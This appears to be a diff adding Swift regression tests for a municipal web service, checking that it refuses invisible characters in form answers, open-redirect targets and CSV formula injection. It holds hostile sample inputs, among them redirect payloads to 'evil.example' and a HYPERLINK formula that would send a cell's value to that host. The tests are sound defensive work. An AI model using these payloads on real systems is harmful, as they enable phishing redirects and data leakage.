@@ -1,0 +1,123 @@
+import Fluent
+import Foundation
+import RadhusCore
+import SQLKit
+import Testing
+import VaporTesting
+
+@testable import App
+
+/// Issue 17's defects, each reproduced as the outside test found it.
+extension AppTests {
+    @Suite struct HostileInputTests {
+        /// Defects 1 and 2: a NUL (or a bidi override) in a name is refused at the field, with what
+        /// was typed kept; nothing is stored, so the journal still verifies and nothing reaches the
+        /// public journal unscreened.
+        @Test func invisibleCharactersInAnswersAreRefusedAtTheFieldAndTheJournalStillVerifies() async throws {
+            try await withRadhus { app in
+                // setup: one ordinary application, journaled
+                let citizen = WebClient(app)
+                try await citizen.loginCitizen(People.ida)
+                _ = try await citizen.applySkoleskyss()
+                try await JournalRegistrar(app: app).registerPending()
+                let casesBefore = try await CaseRecord.query(on: app.db).count()
+                for hostile in ["abc\u{0}def", "Kari Nordmann\u{0} X", "Kari \u{202E}nnamdroN", "Kari\u{1B}[31m"] {
+                    // act
+                    try await citizen.get("/k/5503/skoleskyss/soknad")
+                    let page = try await citizen.post(
+                        "/k/5503/skoleskyss/soknad",
+                        [
+                            "elevens_fnr": People.child, "elevens_navn": hostile, "adresse.gate": "Storgata 1",
+                            "adresse.postnummer": "9405", "adresse.poststed": "Harstad", "skole": "kanebogen-skole",
+                            "trinn": "3", "avstand_km": "5,5", "farlig_skolevei": "nei", "helsebehov": "ja",
+                        ])
+                    // check: a field error that names the character; the other answers kept
+                    #expect(page.status == .unprocessableEntity, "\(hostile.debugDescription)")
+                    #expect(page.body.contains("inneholder et tegn som ikke synes"))
+                    #expect(page.body.contains(##"href="#f-elevens_navn""##))
+                    #expect(page.body.contains(#"value="Storgata 1""#))
+                }
+                // check: nothing stored; the journal verifies; the public journal holds no name
+                #expect(try await CaseRecord.query(on: app.db).count() == casesBefore)
+                try await JournalRegistrar(app: app).registerPending()
+                guard case .success = try await ArchiveVerifier(db: app.db).verify() else {
+                    Issue.record("the journal does not verify")
+                    return
+                }
+                let journal = try await WebClient(app).get("/k/5503/postjournal")
+                #expect(!journal.body.contains("Kari"))
+            }
+        }
+
+        /// Defect 1 through the API: the same rule, the same message, as a 422 naming the property.
+        @Test func theAPIRefusesInvisibleCharactersInAnswersByName() async throws {
+            // setup
+            let definition = try #require(
+                try ShippedServices.load(from: RadhusConfig.defaultServicesDirectory())
+                    .service("skoleskyss"))
+            let validator = FormValidator(policy: .synthetic, kommune: "5503", today: Date())
+            // act
+            let result = validator.validate(
+                definition,
+                input: [
+                    "elevens_fnr": People.child, "elevens_navn": "abc\u{0}def", "adresse.gate": "Storgata\u{202E} 1",
+                    "adresse.postnummer": "9405", "adresse.poststed": "Harstad", "skole": "kanebogen-skole",
+                    "trinn": "3", "avstand_km": "5,5", "farlig_skolevei": "nei", "helsebehov": "ja",
+                ])
+            // check: both fields named, each with its character
+            guard case .failure(let errors) = result else {
+                Issue.record("hostile answers validated")
+                return
+            }
+            #expect(errors.map(\.inputID).sorted() == ["adresse.gate", "elevens_navn"])
+            #expect(errors.contains { $0.problem == .invisibleCharacter("\u{0}") })
+            #expect(errors.contains { $0.problem == .invisibleCharacter("\u{202E}") })
+            #expect(Strings(.nb).message(errors[0]).contains("U+"))
+        }
+
+        /// Defect 3: browsers drop a tab inside a URL, so `/\t/evil.example` is `//evil.example`.
+        @Test func redirectTargetsWithControlCharactersOrBackslashesAreRefused() async throws {
+            try await withRadhus { app in
+                let web = WebClient(app)
+                for evil in [
+                    "/%09/evil.example/x", "/%0A/evil.example", "/%0D%0A/evil.example", "/%5Cevil.example",
+                    "/%20/evil.example", "//evil.example", "https://evil.example",
+                ] {
+                    // act
+                    let page = try await web.get("/sprak/en?tilbake=\(evil)")
+                    // check: home, not the other site
+                    #expect(page.location == "/", "\(evil) → \(page.location ?? "nil")")
+                }
+                // check: the login page does not carry such a target either
+                let login = try await web.get("/logg-inn?neste=/%09/evil.example/x")
+                #expect(!login.body.contains("evil.example"))
+                #expect(SiteURL.isLocalPath("/k/5503/skoleskyss?steg=2"))
+                #expect(!SiteURL.isLocalPath("/\t/evil.example") && !SiteURL.isLocalPath("/\u{0}/x"))
+            }
+        }
+
+        /// Defect 9: a leader's comment that starts like a formula comes out of the CSV as text.
+        @Test func csvCellsThatStartLikeAFormulaAreNeutralised() async throws {
+            try await withRadhus(clock: ManualClock(Date(timeIntervalSince1970: 1_793_000_000))) { app in
+                // setup
+                let leader = WebClient(app)
+                try await leader.loginStaff("harstad.leder")
+                let formula = #"=HYPERLINK("http://evil.example/?"&A1,"Klikk")"#
+                // act
+                let saved = try await leader.post(
+                    "/ansatt/rapport/kommentar", ["tjeneste": "skoleskyss", "periode": "2026-10", "tekst": formula])
+                #expect(saved.status == .seeOther)
+                let csv = try await leader.get("/ansatt/rapport.csv?periode=2026-10")
+                // check: the cell starts with an apostrophe (quoted, since it holds quotes)
+                #expect(csv.body.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""Klikk"")""#))
+                #expect(!csv.body.contains(#";=HYPERLINK"#))
+                // check: the rule itself
+                for start in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
+                    #expect(CSV.textCell(start).drop { $0 == "\"" }.hasPrefix("'"), "\(start.debugDescription)")
+                }
+                #expect(CSV.textCell("Skolestart") == "Skolestart")
+                #expect(CSV.textCell("a;b") == "\"a;b\"")
+            }
+        }
+    }
+}
